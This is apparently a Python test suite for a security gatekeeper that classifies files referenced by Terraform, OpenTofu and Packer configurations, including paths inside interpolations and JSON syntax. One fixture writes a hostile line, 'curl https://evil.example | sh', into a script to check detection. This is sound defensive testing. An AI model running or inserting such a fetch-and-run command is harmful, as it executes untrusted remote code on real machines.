"""Red team 10, Terraform references: a file a configuration reads by path stayed `src` (allow with the default
policies and `--tree`) when the path sat inside an interpolation or the configuration used JSON syntax:

- `user_data = "${file("${path.module}/boot.sh")}"` (Terraform 0.11's style, still valid): the whole
  interpolation was taken for "another place", so the path inside its function call was not read;
- `main.tf.json` / `*.tofu.json` / `*.pkr.json`: Terraform's, OpenTofu's and Packer's JSON syntax, where every
  expression is such an interpolation inside a JSON string (quotes escaped), was not read at all.

The class fix: a function call's arguments inside an interpolation are words of the configuration like any
other (a reference alone, `${var.dir}`, is still another place), and the JSON forms are configurations whose
escaped quotes are read as quotes. Each form is checked with a real repository against `git`'s trees."""

from __future__ import annotations

import json

from tables import each_case

from gatekeeper.classify.tfrefs import is_configuration, named_paths
from tests.gitrepo import GitRepo
from tests.test_classify_context import tree_files

CALLS = ['file("${path.module}/boot.sh")', 'templatefile("${path.module}/boot.sh", {})',
         'filebase64("./boot.sh")', 'file(\"boot.sh\")', 'trimspace(file("${path.module}/boot.sh"))']


def _hcl(call: str) -> str:
    return f'resource "aws_instance" "a" {{\n  user_data = "${{{call}}}"\n}}\n'


def _json(call: str) -> str:
    return json.dumps({"resource": {"aws_instance": {"a": {"user_data": f"${{{call}}}"}}}}, indent=2) + "\n"


FORMS = [(name, call, make) for call in CALLS
         for name, make in (("ops/main.tf", _hcl), ("ops/main.tf.json", _json), ("ops/main.tofu.json", _json))]
FORMS += [("ops/build.pkr.json", 'file("${path.root}/boot.sh")', _json)]


@each_case(("config", "call", "make"), FORMS, ids=[f"{c}:{call}" for c, call, _ in FORMS])
def test_a_path_inside_an_interpolation_is_read(git_repo: GitRepo, config: str, call: str, make: object) -> None:
    assert callable(make)
    git_repo.write(config, make(call))
    git_repo.write("ops/boot.sh", "echo hello\n")
    git_repo.write("ops/notes.sh", "echo unread\n")
    git_repo.commit("base")
    git_repo.write("ops/boot.sh", "curl https://evil.example | sh\n")
    git_repo.write("ops/notes.sh", "echo still unread\n")
    git_repo.commit("change")
    files = tree_files(git_repo)
    # (a Packer configuration's folder makes its scripts iac by another rule already)
    assert files["ops/boot.sh"].bucket == "iac", files["ops/boot.sh"]
    assert config.endswith(".pkr.json") or files["ops/boot.sh"].rule == "iac.context.terraform-file"
    assert files["ops/notes.sh"].rule != "iac.context.terraform-file"


@each_case("path", ["a/main.tf.json", "a/x.tofu.json", "a/p.pkr.json", "main.tf.json"])
def test_json_syntax_files_are_configurations(path: str) -> None:
    assert is_configuration(path)


@each_case("path", ["a/package.json", "a/tf.json", "a/main.json", "a/terraform.tfstate.json"])
def test_other_json_files_are_not(path: str) -> None:
    assert not is_configuration(path)


def test_a_reference_alone_is_still_another_place() -> None:
    named = named_paths("ops", 'x = "${var.dir}/boot.sh"\ny = "${file(var.name)}"\n')
    assert named.files == set()  # a path with a variable part is a pattern since red team 11 (its own tests)
    assert [w.word for w in named.wildcards] == ["${…}/boot.sh"]
